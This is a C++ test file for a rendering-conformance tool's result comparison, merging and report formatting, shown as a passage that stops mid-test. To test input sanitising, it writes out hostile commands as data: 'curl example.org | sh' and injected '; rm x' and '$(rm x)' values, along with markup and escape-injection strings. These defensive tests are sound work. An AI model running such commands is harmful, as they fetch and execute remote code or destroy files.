// SPDX-FileCopyrightText: 2026 The bindpose authors
// SPDX-License-Identifier: Apache-2.0
#include "conformance/gate/results.h"

#include <chrono>
#include <cmath>
#include <filesystem>
#include <fstream>

#include <fmt/format.h>

#include "conformance/gate/baseline.h"
#include "conformance/gate/compare.h"
#include "conformance/gate/merge.h"
#include "conformance/gate/waivers.h"
#include "conformance/judge/verdict_json.h"
#include "conformance/report/text.h"
#include "conformance/testing/results.h"
#include "reference/testing/printable_line.h"
#include "reference/testing/temporary_folder.h"
#include "reference/testing/text.h"

namespace bindpose::conformance::results_test {

using nlohmann::json;

std::string code_of(const json& document) {
  const auto results = parse_results(document.dump(), "r.json");
  return results ? "" : results.error().code + " " + results.error().where;
}

TEST(ResultsTest, reads_what_was_written) {
  json document = results_json_of({{"b/gpu/default", "fail", 4}, {"a/gpu/default"}});
  document["results"][0]["judged"] = "crash";
  document["results"][1]["worst_fraction"] = "inf";
  EXPECT_TRUE(obeys("report/results.schema.json", document));
  const Results results = results_of(document);
  ASSERT_EQ(results.entries.size(), 2U);
  EXPECT_EQ(results.entries[0].name, "a/gpu/default") << "sorted";
  EXPECT_TRUE(std::isinf(results.entries[0].verdict.worst_fraction));
  EXPECT_EQ(results.find("b/gpu/default")->verdict.outcome, Outcome::fail);
  EXPECT_EQ(results.find("b/gpu/default")->verdict.judged, Outcome::crash);
  EXPECT_EQ(results.find("c"), nullptr);
  EXPECT_EQ(results.plan->tests, 2U);
}

TEST(ResultsTest, bad_files_are_refused_with_their_place) {
  EXPECT_EQ(parse_results("{", "r.json").error().code, "JSON_SYNTAX");
  EXPECT_EQ(read_results("/no/such/folder").error().code, "FILE_READ");
  const json good = results_json_of({{"a/gpu/default"}, {"b/gpu/default"}});
  const auto with = [&good](const char* pointer, const json& value) {
    json bad = good;
    bad[json::json_pointer(pointer)] = value;
    return code_of(bad);
  };
  EXPECT_EQ(code_of(json::array()), "RESULTS_FORMAT r.json#/format");
  EXPECT_EQ(with("/format", "bindpose-results-9"), "RESULTS_FORMAT r.json#/format");
  EXPECT_EQ(with("/state", "unfinished"), "RESULTS_UNFINISHED r.json") << "its run goes on, or was killed";
  EXPECT_EQ(with("/results", 1), "RESULTS_FORMAT r.json#/results");
  EXPECT_EQ(with("/results/1/outcome", "fine"), "RESULTS_OUTCOME r.json#/results/1/outcome");
  EXPECT_EQ(with("/results/1/name", 7), "RESULTS_FORMAT r.json#/results/1/name");
  EXPECT_EQ(with("/results/1/worst_fraction", "much"), "RESULTS_FORMAT r.json#/results/1/worst_fraction");
  EXPECT_EQ(with("/results/1", nullptr), "RESULTS_FORMAT r.json#/results/1/name");
  EXPECT_EQ(with("/results/1/name", "a/gpu/default"), "RESULTS_DUPLICATE r.json");
  EXPECT_EQ(with("/suite", 3), "RESULTS_FORMAT r.json#/suite");
  EXPECT_EQ(with("/suite/shard", 1), "RESULTS_FORMAT r.json#/suite") << "shard 1 of 1";
  EXPECT_EQ(with("/suite/tests", -1), "RESULTS_FORMAT r.json#/suite/tests");
}

/// Merging and comparing visit each pair of subjects, and each test for each subject.
TEST(ResultsTest, too_many_subjects_or_options_are_refused) {
  const json good = results_json_of({{"a/gpu/default"}});
  json many = good, twice = good, options = good;
  for (std::size_t i = many["subjects"].size(); i <= limits::results_subjects.most; ++i)
    many["subjects"].push_back({{"name", std::to_string(i)}});
  EXPECT_EQ(code_of(many), "RESULTS_FORMAT r.json#/subjects");
  many["subjects"].erase(0);
  EXPECT_EQ(code_of(many), "");
  twice["subjects"].push_back(twice["subjects"][0]);
  EXPECT_EQ(code_of(twice), "RESULTS_DUPLICATE r.json#/subjects");
  for (std::size_t i = 0; i <= limits::results_options.most; ++i)
    options["results"][0]["variant"][std::to_string(i)] = "on";
  EXPECT_EQ(code_of(options), "RESULTS_FORMAT r.json#/results/0/variant");
}

/// Formerly each failure was compared with all groups of failures before it.
TEST(CompareTest, a_page_of_many_kinds_of_failures_is_fast) {
  json before = results_json_of({{"a.0/g/d"}}), after = before;
  for (const auto& [document, outcome] : {std::pair(&before, "pass"), std::pair(&after, "fail")})
    for (int i = 1; i < 40'000; ++i) {
      json test = before["results"][0];
      test["name"] = fmt::format("a.{}/g/d", i);
      test["outcome"] = outcome;
      (*document)["results"].push_back(test);
    }
  const Results then = results_of(before), now = results_of(after);
  const auto start = std::chrono::steady_clock::now();
  EXPECT_TRUE(has(comparison_page(compare(then, now), {"then"}, {"now"}), "and 39949 more causes"));
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(10));
}

TEST(CompareTest, every_kind_of_change_is_found) {
  const Results before = results_of(results_json_of({{"same/g/d"},
                                                     {"breaks/g/d"},
                                                     {"fixed/g/d", "crash"},
                                                     {"gone/g/d"},
                                                     {"warns/g/d"},
                                                     {"far/g/d", "pass", 0.1},
                                                     {"farther/g/d", "pass", 0.8},
                                                     {"twice/g/d", "pass", 0.1},
                                                     {"tiny/g/d", "pass", 1e-9},
                                                     {"exact/g/d", "pass", 0}}));
  json document = results_json_of({{"same/g/d"},
                                   {"breaks/g/d", "fail", 7},
                                   {"fixed/g/d"},
                                   {"new/g/d"},
                                   {"new_bad/g/d", "fail", 2},
                                   {"warns/g/d", "quality-warning", 9},
                                   {"far/g/d", "pass", 0.3},
                                   {"farther/g/d", "pass", 0.1},
                                   {"twice/g/d", "pass", 0.2},
                                   {"tiny/g/d", "pass", 1e-4},
                                   {"exact/g/d", "pass", 0.5}});
  document["subjects"][0]["info"]["renderer"] = "toy 2";
  document["subjects"][0]["diagnoses"] = {
      {{"algorithms", {"skinning/linear_blend"}},
       {"tests", 2},
       {"numbers", 9},
       {"suspects", {{{"defect", "ibm-ignored"}, {"explained", 9}, {"against", 0}}}}}};
  const Results after = results_of(document);
  const Comparison changes = compare(before, after);
  const auto names = [](const std::vector<Change>& list) {
    std::string text;
    for (const Change& change : list)
      text += change.name.substr(0, change.name.find('/')) + " ";
    return text;
  };
  EXPECT_EQ(names(changes.broken), "breaks warns ") << "a new quality warning counts as a failure";
  EXPECT_EQ(names(changes.fixed), "fixed ");
  EXPECT_EQ(names(changes.gone), "gone ");
  EXPECT_EQ(names(changes.added), "new ");
  EXPECT_EQ(names(changes.new_bad), "new_bad ");
  EXPECT_EQ(names(changes.other), "");
  EXPECT_EQ(names(changes.drifted), "exact farther far ")
      << "largest first; a factor of exactly 2 and tiny errors do not count";
  EXPECT_EQ(changes.device_changes.size(), 1U);
  EXPECT_EQ(changes.exit_code(), 1);
  EXPECT_EQ(json::parse(comparison_json(changes))["broken"][0]["name"], "breaks/g/d");
  for (const std::string& text : {comparison_text(changes, 200), comparison_markdown(changes)})
    EXPECT_TRUE(has(text, {"Something broke", "breaks/", "toy 2", "0.8 -> 0.1", "pass -> fail",
                           "of 9 wrong numbers in 2 failing tests 100 % are as ibm-ignored makes them"}));
  EXPECT_EQ(compare(before, before).exit_code(), 0);
  EXPECT_TRUE(has(comparison_text(compare(before, before)), "Nothing broke"));
}

TEST(CompareTest, changes_of_a_baseline_are_neither_regressions_nor_fixes) {
  const Results before = results_of(results_json_of({{"passes/g/d", "expected-fail", 7},
                                                     {"goes/g/d", "waived", 7},
                                                     {"listed/g/d", "fail", 7},
                                                     {"passed/g/d"},
                                                     {"again/g/d", "unexpected-improvement", 0.1},
                                                     {"skipped/g/d", "expected-fail", 7},
                                                     {"unsupported/g/d", "fail", 7}}));
  const Results after = results_of(results_json_of({{"passes/g/d", "unexpected-improvement", 0.1},
                                                    {"goes/g/d", "stale-waiver", 0.1},
                                                    {"listed/g/d", "expected-fail", 7},
                                                    {"passed/g/d", "unexpected-improvement", 0.1},
                                                    {"again/g/d"},
                                                    {"skipped/g/d", "skipped"},
                                                    {"unsupported/g/d", "not-supported"},
                                                    {"new/g/d", "unexpected-improvement", 0.1}}));
  const Comparison changes = compare(before, after);
  EXPECT_TRUE(changes.broken.empty()) << comparison_text(changes);
  EXPECT_EQ(changes.exit_code(), 0);
  EXPECT_EQ(changes.fixed.size(), 2U) << comparison_text(changes);
  EXPECT_EQ(changes.other.size(), 5U) << comparison_text(changes);
  EXPECT_EQ(changes.added.size(), 1U) << comparison_text(changes);
}

TEST(CompareTest, foreign_text_is_shown_as_plain_text) {
  const Results before = results_of(results_json_of({{"a/g/d"}}));
  json document = results_json_of({{"a/g/d", "fail", 3}});
  document["results"][0]["detail"] = "::error::all is lost\n::error::\x1b[31mred\xE2\x80\xAE | `code`";
  const Results after = results_of(document);
  const Comparison changes = compare(before, after);
  const std::string text = comparison_text(changes), markdown = comparison_markdown(changes);
  EXPECT_TRUE(has(text, "pass -> fail: \\::error::all is lost; "));
  EXPECT_TRUE(has(markdown, "red\\[U+202E] \\| \\`code\\`"));
  for (const std::string& each : {text, markdown}) {
    EXPECT_EQ(each.find('\x1b'), std::string::npos) << each;
    EXPECT_TRUE(lacks(each, {"\n::", "\xE2\x80\xAE"}));
  }
}

TEST(CompareTest, a_vanished_test_is_a_regression_and_a_new_test_is_not) {
  const Results one = results_of(results_json_of({{"a/g/d"}}));
  const Results two = results_of(results_json_of({{"a/g/d"}, {"b/g/d"}}));
  EXPECT_EQ(compare(one, two).exit_code(), 0);
  EXPECT_EQ(compare(two, one).exit_code(), 1);
}

/// Without this, a subject that declares another policy would lose tests and get new ones.
TEST(CompareTest, a_test_under_another_declared_policy_is_the_same_test) {
  const auto run = [](const char* rule, const std::string& variant, const char* outcome) {
    const std::string bar = "skinning.linear_blend.bar.posed.";
    json document = results_json_of({{bar + rule + ".pose.f32/g/default", outcome, 3},
                                     {bar + "tiny.pose.f32/g/" + variant},
                                     {"gone/g/" + variant}});
    for (json& entry : document["results"])
      entry["algorithm"] = entry["name"] == "gone/g/" + variant ? "" : "skinning/linear_blend";
    return results_of(document);
  };
  const std::string rule = "inverse-transpose-of-blend";
  const Results before = run("direction", "default", "pass"),
                after = run(rule.c_str(), "normal_rule-" + rule, "pass"),
                failing = run(rule.c_str(), "compute", "fail");
  const Comparison same = compare(before, after);
  EXPECT_EQ(same.same, 2U);
  EXPECT_EQ(same.gone.size(), 1U) << "no policy of this test is known";
  EXPECT_EQ(same.policy_changes, (std::vector<std::string>{"1 test: default -> normal_rule-" + rule,
                                                           "1 test: direction -> " + rule}));
  EXPECT_TRUE(has(comparison_text(same), "another policy  1 test: direction -> " + rule + "\n"));
  const Comparison worse = compare(before, failing);
  EXPECT_EQ(worse.broken.size(), 1U);
  EXPECT_EQ(worse.gone.size(), 2U) << "a variant is not a policy";
}

TEST(CompareTest, former_names_in_results_count_as_current_names) {
  json document = results_json_of({{"pose.lerp.a/g/d"}, {"skinning.delta_mush.a/g/d", "fail", 3}, {"z/g/d"}});
  document["results"][0]["algorithm"] = "pose/lerp";
  document["missing"] = {"pose.slerp.a/g/d"};
  const Results before = results_of(document);
  const Results after = results_of(
      results_json_of({{"surface.delta_mush.a/g/d", "fail", 3}, {"animation.lerp.a/g/d"}, {"z/g/d"}}));
  EXPECT_EQ(before.notes.size(), 3U);
  EXPECT_TRUE(after.notes.empty());
  EXPECT_EQ(before.find("animation.lerp.a/g/d")->algorithm, "animation/lerp");
  EXPECT_EQ(before.missing, std::vector<std::string>{"animation.slerp.a/g/d"});
  EXPECT_EQ(before.plan->names_fnv1a64, after.plan->names_fnv1a64) << "the same tests were planned";
  const Comparison comparison = compare(before, after);
  EXPECT_EQ(comparison.same, 3U);
  EXPECT_EQ(comparison.exit_code(), 0);
  const Results worse =
      results_of(results_json_of({{"surface.delta_mush.a/g/d"}, {"animation.lerp.a/g/d", "fail", 2}}));
  EXPECT_EQ(compare(before, worse).broken.size(), 1U);
  EXPECT_EQ(compare(before, worse).gone.size(), 1U);
}

/// A failure by a known defect, with the command of its run.
json of_defect(const std::string& name, const char* algorithm, double fraction) {
  json entry = entry_json({name, "fail", fraction});
  entry["algorithm"] = algorithm;
  entry["defect"] = "ibm-ignored";
  entry["stages"] = json::array();
  entry["first_wrong_stage"] = "";
  return entry;
}

TEST(CompareTest, markdown_begins_with_the_causes) {
  json document = results_json_of({{"skinning.linear_blend.a/gpu/d", "crash", 0}});
  document["subjects"][0]["command"] = "bindpose test --subject gpu";
  document["assets"] = {{{"label", "hero"}, {"path", "hero.glb"}}};
  for (int i = 0; i < 40; ++i)
    document["results"].push_back(
        of_defect(fmt::format("skinning.linear_blend.b{}/gpu/d", i), "skinning/linear_blend", i));
  document["results"].push_back(of_defect("asset.hero.c/gpu/default", "skinning/linear_blend", 90));
  const Results before = results_of(results_json_of({})), after = results_of(document);
  const Comparison comparison = compare(before, after);
  ASSERT_EQ(comparison.groups.size(), 2U);
  EXPECT_EQ(comparison.groups[0].tests.size(), 41U);
  const std::string text = comparison_markdown(comparison);
  const std::string command =
      "      bindpose test --subject gpu --asset 'hero.glb' --filter 'asset.hero.c'\n";
  EXPECT_TRUE(has(text,
                  "### Causes\n\n- **ibm-ignored: 41 tests of gpu, 2 algorithms**\n  "
                  "`asset.hero.c/gpu/default`: told so\n\n" +
                      command));
  EXPECT_LT(text.find("### Causes"), text.find("<details"));
  EXPECT_TRUE(has(text, {"- **crash: 1 test of gpu, skinning.linear_blend**", "\n  - and 36 more\n"}));
  EXPECT_TRUE(has(comparison_text(comparison),
                  {"\n  41  fail: ibm-ignored; ", "\n      asset.hero.c\n", "\n      and 36 more\n",
                   "\nnext\n  bindpose test --subject gpu --asset 'hero.glb' --filter 'asset.hero.c'\n"}));
  const json written = json::parse(comparison_json(comparison));
  EXPECT_TRUE(obeys("gate/comparison.schema.json", written));
  EXPECT_EQ(written["causes"][0]["tests"], 41);
}

TEST(CompareTest, a_hundred_new_failures_with_three_causes_fit_one_screen) {
  const std::string subject = "cmd:python3 my_subject.py --with a-long-option";
  json document = results_json_of({}), good = document;
  document["subjects"][0]["command"] = good["subjects"][0]["command"] =
      "bindpose test --subject '" + subject + "'";
  for (int i = 0; i < 100; ++i) {
    const std::string name =
        fmt::format("skinning.linear_blend.cylinder-{}.bend-90.direction.palette.f32/{}/default", i, subject);
    json entry = i < 60 ? of_defect(name, "skinning/linear_blend", 3)
                        : entry_json({name, i < 90 ? "fail" : "crash", 3});
    entry["detail"] = fmt::format("positions[{}].y is {} beyond its bound;", i, i);
    for (int word = 0; word < 60; ++word)
      entry["detail"] = entry["detail"].get<std::string>() + " more";
    if (i >= 60) entry["stages"] = json::array();
    if (i >= 90) entry["detail"] = "the process ended: signal 11";
    entry["subject"] = subject;
    document["results"].push_back(entry);
    entry["outcome"] = "pass";
    entry["defect"] = entry["detail"] = "";
    good["results"].push_back(entry);
  }
  const Results none = results_of(results_json_of({})), right = results_of(good),
                wrong = results_of(document);
  for (const Results* before : {&none, &right}) {
    const std::string text = comparison_text(compare(*before, wrong), 80);
    EXPECT_LE(std::ranges::count(text, '\n'), 30) << text;
    EXPECT_TRUE(fits(text, 80)) << text;
    EXPECT_TRUE(has(text, {"fail: ibm-ignored; ", "  30  ", "fail: positions[60].y is 60 beyond its bound; ",
                           "  10  ", "crash: the process ended: signal 11; skinning/linear_blend\n",
                           "      skinning.linear_blend.cylinder-0.bend-90.direction.palette.f32\n",
                           "      and 55 more\n", "      and 25 more\n", "      and 5 more\n"}));
  }
  const std::string fixed = comparison_text(compare(wrong, right), 80);
  EXPECT_TRUE(has(fixed, {"fixed (100)\n  60  fail -> pass: ibm-ignored; ", "Nothing broke"})) << fixed;
  EXPECT_LE(times("cylinder-", comparison_markdown(compare(none, wrong))), 3 * most_alike + 6)
      << "and the worst test of each cause, with its command";
}

TEST(CompareTest, a_comment_fits_the_limit_of_github) {
  std::vector<conformance::Test> tests;
  for (const char* outcome : {"crash", "fail", "timeout", "invalid-output"})
    for (int i = 0; i < 30; ++i)
      tests.push_back({fmt::format("a.b{}.{}/{}/d", i, outcome, std::string(2000, 's')), outcome, 3});
  json document = results_json_of(tests), good = document;
  for (std::size_t i = 0; i < tests.size(); ++i) {
    document["results"][i]["detail"] = std::string(5000, '|');
    good["results"][i]["outcome"] = i % 2 == 0 ? "pass" : "internal-error";
  }
  const Results before = results_of(good), after = results_of(document);
  const std::string text = comparison_markdown(compare(before, after), 1000);
  EXPECT_LE(text.size(), most_comment_bytes);
  EXPECT_TRUE(has(text, "### Causes"));
}

TEST(CompareTest, a_comment_with_very_long_names_fits_the_limit) {
  json document = results_json_of({});
  for (int i = 0; i < 12; ++i) {
    const std::string name(20'000, static_cast<char>('a' + i));
    json test = results_json_of({{fmt::format("a.b.c/{}/d", name), "fail", 3}})["results"][0];
    test["subject"] = name;
    document["results"].push_back(test);
  }
  const Results before = results_of(results_json_of({})), after = results_of(document);
  const Comparison comparison = compare(before, after);
  ASSERT_EQ(comparison.groups.size(), 12U);
  const std::string text = comparison_markdown(comparison);
  EXPECT_LE(text.size(), most_comment_bytes);
  EXPECT_TRUE(has(text, "### Causes\n\n- **"));
}

TEST(CompareTest, tests_that_did_not_run_are_not_removed_tests) {
  const std::vector<std::string> whole = {"a/gpu/d", "b/gpu/d"};
  const Results before = results_of(results_json_of({{"a/gpu/d"}, {"b/gpu/d"}, {"c/gpu/d"}}));
  const Comparison comparison = compare(before, results_of(results_json_of({{"a/gpu/d"}}, 0, 1, whole)));
  ASSERT_EQ(comparison.not_run.size(), 1U);
  EXPECT_EQ(comparison.not_run[0].name, "b/gpu/d");
  EXPECT_EQ(comparison.gone.size(), 1U);
  EXPECT_EQ(comparison.exit_code(), 1);
}

TEST(CompareTest, tests_that_ran_in_neither_are_counted) {
  json document = results_json_of({{"a/gpu/d"}}, 0, 1, {"a/gpu/d", "b/gpu/d"});
  const Comparison filtered = compare(results_of(document), results_of(document));
  EXPECT_EQ(headline(filtered), "Nothing broke: 1 same, 1 ran in neither.");
  EXPECT_EQ(filtered.exit_code(), 0);
  document["left"] = {"b/gpu/d"};
  ASSERT_TRUE(obeys("report/results.schema.json", document));
  const Results stopped = results_of(document);
  const Comparison comparison = compare(stopped, stopped);
  EXPECT_EQ(headline(comparison), "Nothing broke, but the new run is incomplete: 1 same, 1 ran in neither.");
  EXPECT_EQ(comparison.exit_code(), 1);
  EXPECT_TRUE(obeys("gate/comparison.schema.json", json::parse(comparison_json(comparison))));
  document["left"] = {3};
  EXPECT_FALSE(parse_results(document.dump(), "r.json"));
}

TEST(CompareTest, tests_of_a_subject_that_did_not_run_are_not_removed_tests) {
  const std::vector<std::string> whole = {"a/gpu/d", "b/gpu/d", "b/other/d"};
  const auto before = results_of_subject(results_of(results_json_of({{"a/gpu/d"}, {"b/gpu/d"}})), "gpu");
  const auto after = results_of_subject(results_of(results_json_of({{"a/gpu/d"}}, 0, 1, whole)), "gpu");
  ASSERT_TRUE(before && after);
  const Comparison comparison = compare(*before, *after);
  ASSERT_EQ(comparison.not_run.size(), 1U);
  EXPECT_EQ(comparison.not_run[0].name, "b/d");
  EXPECT_TRUE(comparison.gone.empty());
}

TEST(CompareTest, slower_tests_are_named_on_request) {
  json then = results_json_of({{"a/g/d"},
                               {"b/g/d"},
                               {"c/g/d"},
                               {"d/g/d"},
                               {"e/g/d"},
                               {"f/g/d", "fail", 3},
                               {"g/g/d"},
                               {"h/g/d"}}),
       now = then;
  const auto set = [](json& document, std::size_t i, const json& seconds) {
    document["results"][i]["subject_seconds"] = seconds;
  };
  const std::vector<std::pair<json, json>> times = {{0.1, 0.6}, {0.1, 0.5}, {0.001, 0.04}, {0, 9},
                                                    {0.01, 1},  {0.1, 2},   {0.001, 0.1},  {0.1, 2}};
  for (std::size_t i = 0; i < times.size(); ++i) {
    set(then, i, times[i].first);
    set(now, i, times[i].second);
  }
  now["results"][4]["is_cached"] = true;
  then["results"][7]["is_cached"] = true;
  const Results before = results_of(then), after = results_of(now);
  EXPECT_EQ(compare(before, after).exit_code(), 0) << "only on request";
  const Comparison comparison = compare(before, after, 5);
  ASSERT_EQ(comparison.slower.size(), 2U);
  EXPECT_EQ(comparison.slower[0].name, "f/g/d") << "the slowest first";
  EXPECT_EQ(comparison.slower[1].name, "a/g/d")
      << "exactly x5, short times, no time and cached verdicts do not count";
  EXPECT_EQ(comparison.same, 8U) << "their verdicts are the same";
  EXPECT_EQ(comparison.exit_code(), 1);
  EXPECT_TRUE(has(comparison_text(comparison), {"slower (2)\n", "0.1 s -> 0.6 s (x6)", ": 2 slower, "}));
  EXPECT_TRUE(obeys("gate/comparison.schema.json", json::parse(comparison_json(comparison))));

  const TemporaryFolder folder;
  std::ofstream(folder / "then.json") << then;
  std::ofstream(folder / "now.json") << now;
  expect_ended(run_in(folder, BINDPOSE_PROGRAM " compare then.json now.json --slower-than 5"), 1,
               {"2 slower, "});
  expect_ended(run_in(folder, BINDPOSE_PROGRAM " compare then.json now.json --slower-than 50"), 0);
  for (const char* bad : {"0.5", "x", "nan"})
    EXPECT_EQ(run_in(folder, std::string(BINDPOSE_PROGRAM " compare then.json now.json --slower-than ") + bad)
                  .exit_code,
              2)
        << bad;
}

TEST(AgreeTest, tests_that_fail_in_some_runs_have_a_rate) {
  const TemporaryFolder folder;
  for (int i = 0; i < 10; ++i)
    std::ofstream(folder / fmt::format("{}.json", i))
        << results_json_of({{"a/g/d", i < 2 ? "crash" : "pass", 0},
                            {"b/g/d", i < 5 ? "flake" : "pass", 0},
                            {"always/g/d", "fail", 3},
                            {"never/g/d", i < 3 ? "skipped" : "pass", 0}});
  const std::string files = " 0.json 1.json 2.json 3.json 4.json 5.json 6.json 7.json 8.json 9.json";
  const Ran ran = run_in(folder, BINDPOSE_PROGRAM " agree" + files);
  expect_ended(
      ran, 1, {"flaky        failed in 5 of 10 runs: b/g/d\n  flaky        failed in 2 of 10 runs: a/g/d\n"});
  EXPECT_TRUE(lacks(ran.out, {"always", "never"}));
  const Ran as_json = run_in(folder, BINDPOSE_PROGRAM " agree --json" + files);
  EXPECT_TRUE(obeys("report/agreement.schema.json", json::parse(as_json.out)));
  EXPECT_EQ(json::parse(as_json.out)["flaky"][1], (json{{"test", "a/g/d"}, {"failed", 2}, {"runs", 10}}));
  expect_ended(run_in(folder, BINDPOSE_PROGRAM " agree 8.json 9.json"), 2, {"NO_AGREEMENT"});

  json other = results_json_of({{"a/g/d", "pass", 0}});
  other["subjects"][0]["info"]["renderer"] = "another";
  std::ofstream(folder / "other.json") << other;
  expect_ended(run_in(folder, BINDPOSE_PROGRAM " agree 0.json other.json"), 2, {"NO_AGREEMENT"});
}

TEST(CompareTest, any_text_fits_into_a_markdown_cell) {
  json document = results_json_of({{"a/g/d", "fail", 3}});
  document["results"][0]["detail"] = "a|b\n<img src=x>";
  const Results before = results_of(results_json_of({{"a/g/d"}}));
  const Results after = results_of(document);
  const std::string text = comparison_markdown(compare(before, after));
  EXPECT_TRUE(has(text, "a\\|b \\<img"));
  document["results"][0]["detail"] = "@mary broke #1";
  const Results named = results_of(document);
  EXPECT_TRUE(has(comparison_markdown(compare(before, named)), "@<!-- -->mary broke #<!-- -->1"));
}

/// The command comes from an untrusted document.
TEST(CompareTest, only_commands_of_bindpose_are_shown) {
  json document = results_json_of({{"a.b.c/gpu/d", "fail", 3}});
  const Results before = results_of(results_json_of({}));
  const auto shown = [&](const std::string& command) {
    document["subjects"][0]["command"] = command;
    const Results after = results_of(document);
    return compare(before, after).groups.at(0).command;
  };
  const std::string good = "bindpose test --subject 'cmd:python3 it'\\''s; x' --time 7";
  EXPECT_EQ(shown(good), good + " --filter 'a.b.c/gpu/d'");
  for (const char* bad :
       {"curl example.org | sh", "bindpose test --subject gpu; rm x", "bindpose test --subject gpu\nrm x",
        "bindpose test --subject $(rm x)", "bindpose test --subject \"gpu\"", "bindpose test --subject 'gpu"})
    EXPECT_EQ(shown(bad), "") << bad;
}

const std::vector<std::string> all = {"a/g/d", "b/g/d", "c/g/d", "s/g/d"};

json shard(std::vector<Test> tests, std::size_t index, std::size_t shards = 2) {
  tests.push_back({"s/g/d", "skipped", 0});  // every shard lists the tests of a skips file
  return results_json_of(tests, index, shards, all);
}

Expected<Merged> merge_all(const std::vector<json>& documents) {
  std::vector<Results> shards;
  for (std::size_t i = 0; i < documents.size(); ++i)
    shards.push_back(results_of(documents[i], "shard" + std::to_string(i)));
  return merge(shards);
}

std::string merge_error(const std::vector<json>& documents) {
  const auto merged = merge_all(documents);
  return merged ? "" : to_string(merged.error());
}

Merged merged_of(const std::vector<json>& documents) {
  auto merged = merge_all(documents);
  EXPECT_TRUE(merged) << to_string(merged.error());
  return *std::move(merged);
}

TEST(MergeTest, shards_merge_into_a_whole_run) {
  const Merged merged = merged_of({shard({{"c/g/d", "pass", 0.5}, {"a/g/d"}}, 0), shard({{"b/g/d"}}, 1)});
  EXPECT_EQ(merged.exit_code, 0);
  EXPECT_EQ(merged.entries.size(), 4U);
  EXPECT_TRUE(obeys("report/results.schema.json", merged.document));
  EXPECT_EQ(merged.document["subjects"][0]["counts"]["pass"], 3);
  EXPECT_EQ(merged.document["subjects"][0]["worst_name"], "c/g/d");
  const TemporaryFolder folder;
  ASSERT_TRUE(write_merged(folder, merged));
  EXPECT_EQ(slurp(folder / "results.csv"),
            "a/g/d,Pass,0.750000\nb/g/d,Pass,0.750000\nc/g/d,Pass,0.750000\ns/g/d,Skip,0.750000\n");
  EXPECT_EQ(slurp(folder / "failures.csv"), "");
  EXPECT_TRUE(read_results(folder)) << "a merged run can be compared";
  EXPECT_TRUE(has(slurp(folder / "junit.xml"), "tests=\"4\""));
}

TEST(MergeTest, former_fields_get_their_current_names) {
  json former = shard({{"c/g/d", "fail", 3}, {"a/g/d"}}, 0);
  json& failed = former["results"][0];
  failed["mistake"] = "ibm-ignored";
  const Merged merged = merged_of({former, shard({{"b/g/d"}}, 1)});
  EXPECT_TRUE(obeys("report/results.schema.json", merged.document));
  EXPECT_FALSE(has(merged.document.dump(), "mistake"));
  EXPECT_TRUE(has(merged.document["results"].dump(), "\"defect\":\"ibm-ignored\""));
}

TEST(MergeTest, an_interrupted_shard_is_not_a_baseline) {
  json interrupted = shard({{"b/g/d"}}, 1);
  interrupted["interrupted"] = true;
  const Merged merged = merged_of({shard({{"c/g/d"}, {"a/g/d"}}, 0), interrupted});
  EXPECT_EQ(merged.exit_code, 2);
  const TemporaryFolder folder;
  std::ofstream(folder / "failures.csv") << "of a merge before\n";
  ASSERT_TRUE(write_merged(folder, merged));
  EXPECT_FALSE(std::filesystem::exists(folder / "failures.csv"));
  const json sarif = json::parse(slurp(folder / "report.sarif"));
  EXPECT_EQ(sarif["runs"][0]["invocations"][0]["executionSuccessful"], false);
}

TEST(MergeTest, numbers_policies_and_diagnoses_are_kept) {
  json first = shard({{"a/g/d"}, {"c/g/d"}}, 0), second = shard({{"b/g/d"}}, 1);
  for (json* document : {&first, &second})
    for (json& result : (*document)["results"]) {
      result["arrays"] = json::array({json_of(ArrayVerdict{.name = "values", .judged = 12, .undecided = 2})});
      result["policy"] = "pivot=running-sum";
      result["stages"] = json::array();
      result["first_wrong_stage"] = result["defect"] = "";
    }
  // Version 0.1 had one diagnosis for all algorithms.
  first["subjects"][0]["diagnosis"] = {{"tests", 1}, {"numbers", 3}, {"suspects", json::array()}};
  second["subjects"][0]["diagnosis"] = {{"tests", 1}, {"numbers", 5}, {"suspects", json::array()}};
  const auto of = [](const char* algorithm) {
    return json{{"algorithms", {algorithm}}, {"tests", 1}, {"numbers", 7}, {"suspects", json::array()}};
  };
  first["subjects"][0]["diagnoses"] = {of("animation/slerp"), of("skinning/linear_blend")};
  second["subjects"][0]["diagnoses"] = {of("animation/slerp")};
  const Merged merged = merged_of({first, second});
  const auto& subject = merged.document["subjects"][0];
  EXPECT_EQ(subject["numbers"], 4 * 12) << "three tests, and the test that both shards skip";
  EXPECT_EQ(subject["undecided"], 4 * 2);
  ASSERT_EQ(subject["diagnoses"].size(), 3U);
  EXPECT_EQ(subject["diagnoses"][0]["numbers"], 3 + 5);
  EXPECT_EQ(subject["diagnoses"][1]["numbers"], 7 + 7) << "of slerp";
  EXPECT_EQ(subject["diagnoses"][2]["numbers"], 7);
  EXPECT_FALSE(subject.contains("diagnosis"));
  const TemporaryFolder folder;
  ASSERT_TRUE(write_merged(folder, merged));
  EXPECT_EQ(slurp(folder / "results.csv").substr(0, 11), "a/g/d,Warn,")
      << "the test passes by an accepted policy";
}

TEST(ShardCosts, the_longest_tests_go_to_the_shard_with_least_work) {
  EXPECT_EQ(dealt_by_cost({1, 1, 6, 2, 3}, 2), (std::vector<std::size_t>{1, 0, 0, 1, 1}));
  EXPECT_EQ(dealt_by_cost({1, 1, 1}, 5), (std::vector<std::size_t>{0, 1, 2}));
  EXPECT_TRUE(dealt_by_cost({}, 3).empty());
}

TEST(ShardCosts, a_new_test_gets_the_mean_time) {
  const Results earlier = results_of(shard({{"a/g/d"}, {"b/g/d"}}, 0));
  const auto seconds = seconds_of_tests({"b/g/d", "new/g/d"}, earlier);
  ASSERT_EQ(seconds.size(), 2U);
  EXPECT_EQ(seconds[0], 0.75);
  EXPECT_EQ(seconds[1], 0.75);
  EXPECT_EQ(seconds_of_tests({"new/g/d"}, Results{}), std::vector<double>{1});
}

TEST(MergeTest, the_exit_code_is_that_of_the_whole_run) {
  const auto code = [](const char* outcome) {
    const auto merged =
        merge({results_of(shard({{"c/g/d"}, {"a/g/d"}}, 0)), results_of(shard({{"b/g/d", outcome, 2}}, 1))});
    return merged ? merged->exit_code : -1;
  };
  EXPECT_EQ(code("waived"), 0);
  EXPECT_EQ(code("fail"), 1);
  EXPECT_EQ(code("unexpected-improvement"), 1);
  EXPECT_EQ(code("internal-error"), 2);
}

TEST(MergeTest, shards_with_former_and_current_names_can_be_merged) {
  const std::vector<std::string> former = {"pose.lerp.a/g/d", "pose.slerp.a/g/d"};
  const std::vector<std::string> today = {"animation.lerp.a/g/d", "animation.slerp.a/g/d"};
  json first = results_json_of({{former[0]}}, 0, 2, former);
